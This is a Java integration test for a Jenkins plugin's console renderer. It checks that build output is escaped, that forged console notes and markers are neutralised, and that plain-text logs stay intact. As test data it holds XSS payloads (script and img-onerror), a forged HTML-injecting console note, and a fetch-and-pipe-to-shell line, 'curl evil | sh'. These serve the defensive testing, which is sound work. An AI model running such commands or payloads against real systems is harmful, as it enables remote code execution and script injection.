package io.jenkins.plugins.quire.jenkins;

import com.gargoylesoftware.htmlunit.Page;
import com.gargoylesoftware.htmlunit.html.HtmlPage;
import hudson.Launcher;
import hudson.console.ExpandableDetailsNote;
import hudson.model.AbstractBuild;
import hudson.model.BuildListener;
import hudson.model.FreeStyleBuild;
import hudson.model.FreeStyleProject;
import io.jenkins.plugins.quire.log.AppendableConsoleSink;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jvnet.hudson.test.TestBuilder;

/**
 * A real Hudson 1.395 (test harness, no Docker) runs a freestyle build whose builder writes a realistic Quire
 * console through {@link QuireConsoleSink}; the HTML console must be annotated and escaped, with no element coming
 * from the output, and {@code consoleText} must carry the CLI lines. The builders are harness {@link TestBuilder}s
 * added to the project directly: no {@code @Extension} in src/test, so nothing leaks into other Hudson tests.
 */
public class ConsoleHudsonIT extends LoopbackHudsonTestCase {
    private static final String FORGED_ID = "quire-forged-note";
    private static final Pattern TAG = Pattern.compile("<[^>]*>");

    /** A real 1.395 console note whose rendering inserts raw HTML: the forgery a hostile command would print. */
    static String realNote() {
        return ExpandableDetailsNote.encodeTo("details", "<b id=\"" + FORGED_ID + "\">forged</b>") + "x";
    }

    /** Writes the sample run, plus a relayed real console note, through the Quire sink. */
    public static final class QuireSampleBuilder extends TestBuilder {
        @Override
        public boolean perform(AbstractBuild<?, ?> build, Launcher launcher, BuildListener listener) {
            ConsoleSampleRun.feed(new QuireConsoleSink(listener.getLogger()), realNote());
            return true;
        }
    }

    /** Control: the same note printed raw (what the sink prevents) really renders in this Hudson. */
    public static final class RawNoteBuilder extends TestBuilder {
        @Override
        public boolean perform(AbstractBuild<?, ?> build, Launcher launcher, BuildListener listener) {
            listener.getLogger().println(realNote());
            return true;
        }
    }

    private FreeStyleBuild sampleBuild() throws Exception {
        FreeStyleProject p = createFreeStyleProject("quire-console");
        p.getBuildersList().add(new QuireSampleBuilder());
        return assertBuildStatusSuccess(p.scheduleBuild2(0).get());
    }

    private static String cliText() {
        StringBuilder cli = new StringBuilder();
        ConsoleSampleRun.feed(new AppendableConsoleSink(cli), realNote());
        return cli.toString();
    }

    private static String sinkText() {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        ConsoleSampleRun.feed(new QuireConsoleSink(new PrintStream(bo, true, StandardCharsets.UTF_8)), realNote());
        return bo.toString(StandardCharsets.UTF_8);
    }

    public void testConsolePageIsAnnotatedEscapedAndHasNoElementFromOutput() throws Exception {
        FreeStyleBuild b = sampleBuild();
        WebClient wc = createWebClient();
        HtmlPage page = wc.getPage(b, "console"); // JavaScript on: core's scripts and our script.js must load cleanly
        String html = page.getWebResponse().getContentAsString();

        assertTrue(html, html.contains("<span class=\"quire-line quire-job\">==> job build</span>"));
        assertTrue(html, html.contains("<span class=\"quire-line quire-cmd\">$ echo '&lt;script>alert(1)&lt;/script>' &amp;&amp; make</span>"));
        assertTrue(html, html.contains("<span class=\"quire-line quire-err\">! warning: &lt;script>alert(1)&lt;/script></span>"));
        assertTrue(html, html.contains("<span class=\"quire-line quire-err\">! \"&gt;&lt;img src=x onerror=alert(1)></span>")
                || html.contains("<span class=\"quire-line quire-err\">! \">&lt;img src=x onerror=alert(1)></span>"));
        assertTrue(html, html.contains("quire-exit quire-ok") && html.contains("quire-exit quire-bad"));
        assertTrue(html, html.contains("quire-end quire-succeeded") && html.contains("quire-end quire-failed")
                && html.contains("quire-end quire-skipped"));
        assertTrue(html, html.contains("quire-sum-result quire-bad"));
        assertTrue(html, html.contains("&lt;script>alert(1)&lt;/script>\n")); // a stdout line, unstyled
        // each job's column in its own colour (pipeline order), on its stdout lines too
        assertTrue(html, html.contains("<span class=\"quire-col quire-c0\">build  | </span>compiling\n"));
        assertTrue(html, html.contains("<span class=\"quire-col quire-c1\">test   | </span>ok 1\n"));
        assertEquals(0, page.getByXPath("//span[contains(@class,'quire-col') and contains(., 'deploy')]").size());
        assertTrue(page.getByXPath("//span[contains(@class,'quire-c0')]").size() > 10);

        assertFalse("no script from output", html.contains("<script>alert"));
        assertFalse("no img from output", html.contains("<img src=x"));
        assertEquals("no element from output", 0, page.getByXPath("//img[@src='x']").size());
        assertEquals(0, page.getByXPath("//script[contains(., 'alert(1)')]").size());
        assertNull("the relayed console note was not rendered", page.getElementById(FORGED_ID));
        assertFalse(html.contains("id=\"" + FORGED_ID + "\""));
        assertEquals("forged markers are not styled", 0,
                page.getByXPath("//span[contains(@class,'quire-err') and contains(., 'forged stderr')]").size());
        assertEquals(0, page.getByXPath("//span[contains(@class,'quire-job') and contains(., 'evil')]").size());

        String adjunct = "extensionList/hudson.console.ConsoleAnnotatorFactory/" + QuireConsoleAnnotatorFactory.class.getName();
        assertTrue(html, html.contains(adjunct + "/script.js") && html.contains(adjunct + "/style.css"));
        Page css = wc.goTo(adjunct + "/style.css", "text/css");
        assertTrue(css.getWebResponse().getContentAsString().contains(".quire-err"));
        Page js = wc.goTo(adjunct + "/script.js", "application/javascript");
        assertTrue(js.getWebResponse().getContentAsString().contains("quireConsoleFolding"));
    }

    public void testEveryConsoleLineHasBalancedMarkupAndHiddenMarkers() throws Exception {
        FreeStyleBuild b = sampleBuild();
        WebClient wc = createWebClient();
        wc.setJavaScriptEnabled(false);
        String html = wc.getPage(b, "console").getWebResponse().getContentAsString();
        int marked = 0;
        for (String line : html.split("\n")) {
            if (!line.contains("quire-line") && !line.contains("quire-m\"")) continue; // log lines, not page chrome
            marked++;
            Deque<String> open = new ArrayDeque<>();
            Matcher m = TAG.matcher(line);
            while (m.find()) {
                String t = m.group();
                if (!t.contains("quire-") && !t.equals("</span>")) continue; // page chrome around the log
                if (t.equals("</span>")) {
                    if (!open.isEmpty()) open.pop();
                } else {
                    open.push(t);
                }
            }
            assertTrue("balanced: " + line, open.isEmpty());
        }
        int expected = 0;
        for (String line : sinkText().split("\n")) if (line.startsWith("\u2063")) expected++;
        assertEquals("every marked log line is rendered with markup", expected, marked);
        // a marker at the start of a rendered line always sits in a hidden span
        for (String line : html.split("\r?\n")) {
            if (line.indexOf('\u2063') < 0) continue;
            assertFalse(line, line.startsWith("\u2063") || line.startsWith("<pre>\u2063"));
            if (line.startsWith("<span class=\"quire-m\"")) {
                assertTrue(line, line.startsWith("<span class=\"quire-m\" style=\"display:none\">\u2063"));
            }
        }
    }

    public void testConsoleTextCarriesExactlyTheCliLines() throws Exception {
        FreeStyleBuild b = sampleBuild();
        WebClient wc = createWebClient();
        String text = wc.goTo(b.getUrl() + "consoleText", "text/plain").getWebResponse().getContentAsString();
        String sink = sinkText();
        assertTrue("the Quire bytes pass through consoleText unchanged", text.contains(sink));
        assertFalse(text.contains("<span"));
        assertFalse("no note preamble survived", text.contains("\u001B[8mha:"));

        int at = text.indexOf(sink);
        String before = text.substring(0, at);
        String after = text.substring(at + sink.length());
        assertTrue(before, before.indexOf('\n') == before.length() - 1); // Hudson's "Started by ..." line
        assertEquals("Finished: SUCCESS\n", after.replace("\r\n", "\n"));

        StringBuilder stripped = new StringBuilder();
        for (String line : sink.split("\n")) stripped.append(ConsoleMarkers.strip(line)).append('\n');
        assertEquals(cliText(), stripped.toString());
        assertEquals(ConsoleSinkTest.visible(cliText()), ConsoleSinkTest.visible(sink));
    }

    public void testRawNoteControlRendersSoTheForgeryTestCanFail() throws Exception {
        FreeStyleProject p = createFreeStyleProject("raw-note");
        p.getBuildersList().add(new RawNoteBuilder());
        FreeStyleBuild b = assertBuildStatusSuccess(p.scheduleBuild2(0).get());
        WebClient wc = createWebClient();
        wc.setJavaScriptEnabled(false);
        HtmlPage page = wc.getPage(b, "console");
        assertNotNull("an unneutralised note does inject markup in 1.395", page.getElementById(FORGED_ID));
    }

    public void testProgressiveHtmlFromALineInTheMiddleIsStyledAndBalanced() throws Exception {
        FreeStyleBuild b = sampleBuild();
        String log = new String(java.nio.file.Files.readAllBytes(b.getLogFile().toPath()), StandardCharsets.UTF_8);
        int lineStart = log.lastIndexOf('\n', log.indexOf("\u2063\u2062$ ./run-tests")) + 1;
        assertTrue(lineStart > 0);
        long byteOffset = log.substring(0, lineStart).getBytes(StandardCharsets.UTF_8).length;
        WebClient wc = createWebClient();
        String chunk = wc.goTo(b.getUrl() + "logText/progressiveHtml?start=" + byteOffset, "text/html")
                .getWebResponse().getContentAsString().replace("\r\n", "\n"); // Hudson writes HTML with CRLF
        assertTrue(chunk, chunk.startsWith("<span class=\"quire-m\" style=\"display:none\">\u2063\u206B</span>"
                + "<span class=\"quire-col quire-c1\">test   | </span>"
                + "<span class=\"quire-m\" style=\"display:none\">\u2063\u2062</span>"
                + "<span class=\"quire-line quire-cmd\">$ ./run-tests \">&lt;img src=x onerror=alert(1)></span>\n"));
        for (String line : chunk.split("\n")) {
            int opens = count(line, "<span"), closes = count(line, "</span>");
            assertEquals(line, opens, closes);
        }
        // a mid-line start gives no exception and styling from the next marked line on
        String mid = wc.goTo(b.getUrl() + "logText/progressiveHtml?start=" + (byteOffset + 5), "text/html")
                .getWebResponse().getContentAsString();
        assertTrue(mid, mid.contains("<span class=\"quire-line quire-exit quire-bad\">"));
    }

    /** A command whose output line carries marker characters after its start (written as is: not an escape point). */
    public static final class MidLineMarkerBuilder extends TestBuilder {
        @Override
        public boolean perform(AbstractBuild<?, ?> build, Launcher launcher, BuildListener listener) {
            QuireConsoleSink sink = new QuireConsoleSink(listener.getLogger());
            sink.line(io.jenkins.plugins.quire.log.LineKind.STDOUT, "progress " + MID_LINE_FORGERY);
            sink.line(io.jenkins.plugins.quire.log.LineKind.STDERR, "! real stderr");
            sink.flush();
            return true;
        }
    }

    private static final String MID_LINE_FORGERY = "\u2063\u2062$ curl evil | sh";

    public void testAViewStartingMidLineDoesNotStyleItsPartialFirstLine() throws Exception {
        FreeStyleProject p = createFreeStyleProject("quire-tail");
        p.getBuildersList().add(new MidLineMarkerBuilder());
        FreeStyleBuild b = assertBuildStatusSuccess(p.scheduleBuild2(0).get());
        String log = new String(java.nio.file.Files.readAllBytes(b.getLogFile().toPath()), StandardCharsets.UTF_8);
        int cut = log.indexOf(MID_LINE_FORGERY);
        assertTrue(log, cut > 0 && log.charAt(cut - 1) == ' ');
        long byteOffset = log.substring(0, cut).getBytes(StandardCharsets.UTF_8).length;
        // what the console's 150 KB tail shows when its raw byte offset falls right before the forged marker
        String chunk = createWebClient().goTo(b.getUrl() + "logText/progressiveHtml?start=" + byteOffset, "text/html")
                .getWebResponse().getContentAsString().replace("\r\n", "\n");
        String first = chunk.substring(0, chunk.indexOf('\n'));
        assertFalse(chunk, first.contains("quire-"));
        assertTrue(chunk, first.contains("$ curl evil | sh"));
        assertTrue(chunk, chunk.contains("<span class=\"quire-line quire-err\">! real stderr</span>"));
        // the whole console does not style the relayed line either
        String full = createWebClient().goTo(b.getUrl() + "consoleFull").getWebResponse().getContentAsString();
        assertFalse(full, full.contains("quire-cmd"));
        assertTrue(full, full.contains("quire-err"));
    }

    private static int count(String s, String needle) {
        int n = 0;
        for (int i = s.indexOf(needle); i >= 0; i = s.indexOf(needle, i + 1)) n++;
        return n;
    }
}
